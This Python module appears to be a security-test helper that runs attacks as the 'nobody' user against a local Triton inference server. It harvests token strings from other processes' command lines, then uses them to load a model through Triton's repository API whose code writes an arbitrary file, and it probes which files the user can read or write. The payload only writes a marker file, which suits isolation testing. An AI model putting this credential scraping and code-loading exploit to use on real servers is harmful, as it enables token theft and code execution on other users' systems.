"""Attacks on a process by another user of this machine.

`as_nobody(attack, ...)` runs an attack as `nobody`.
"""

from __future__ import annotations

import base64
import json
import os
import re
import socket
import subprocess
import sys
from pathlib import Path

NOBODY = 65534
CONFIG = {
    "backend": "python",
    "max_batch_size": 0,
    "input": [{"name": "i", "data_type": "TYPE_INT32", "dims": [1]}],
    "output": [{"name": "o", "data_type": "TYPE_INT32", "dims": [1]}],
}


def as_nobody(attack: str, *arguments: object):
    """Run a function of this file as nobody; pass arguments and result as JSON."""
    command = [sys.executable, "-S", __file__, attack, json.dumps(arguments)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def load_model(pids: list[int], places: list[str | int], written: str) -> dict[str, list[str]]:
    """Make Triton load a model whose code writes the file `written`.

    Args:
        pids: processes whose command lines may contain a token.
        places: TCP ports and Unix sockets that may be Triton's.

    Returns:
        the tokens, and the answer of each place.
    """
    secrets = {
        secret
        for pid in pids
        for secret in re.findall(r"[\w-]*token=[^\0,]{8,}", _command_line(pid))
    }
    code = f"open({written!r}, 'w')\n"
    code += "class TritonPythonModel:\n    def execute(self, requests):\n        return []\n"
    encoded = base64.b64encode(code.encode()).decode()
    body = json.dumps({"parameters": {"config": json.dumps(CONFIG), "file:1/model.py": encoded}})
    answers = []
    for header in ["", *(secret.replace("=", ": ", 1) + "\r\n" for secret in sorted(secrets))]:
        head = "POST /v2/repository/models/evil/load HTTP/1.1\r\nHost: x\r\n"
        head += f"{header}Content-Length: {len(body)}\r\n\r\n"
        answers += [_exchange(place, (head + body).encode()) for place in places]
    return {"secrets": sorted(secrets), "answers": answers}


def open_files(paths: list[str]) -> list[str]:
    """Return the files that this user can read or write."""
    opened = []
    for path in paths:
        for mode in ("rb", "r+b"):
            try:
                with open(path, mode):
                    opened.append(f"{path} {mode}")
            except OSError:
                pass
    return opened


def _command_line(pid: int) -> str:
    return Path(f"/proc/{pid}/cmdline").read_text()


def _exchange(place: str | int, request: bytes) -> str:
    """Return the first line of the answer, or the error's name."""
    family, address = (
        (socket.AF_UNIX, place)
        if isinstance(place, str)
        else (socket.AF_INET, ("127.0.0.1", place))
    )
    try:
        with socket.socket(family) as connection:
            connection.settimeout(20)
            connection.connect(address)
            connection.sendall(request)
            return connection.recv(1000).split(b"\r\n")[0].decode()
    except OSError as error:
        return type(error).__name__


if __name__ == "__main__":
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    print(json.dumps(globals()[sys.argv[1]](*json.loads(sys.argv[2]))))
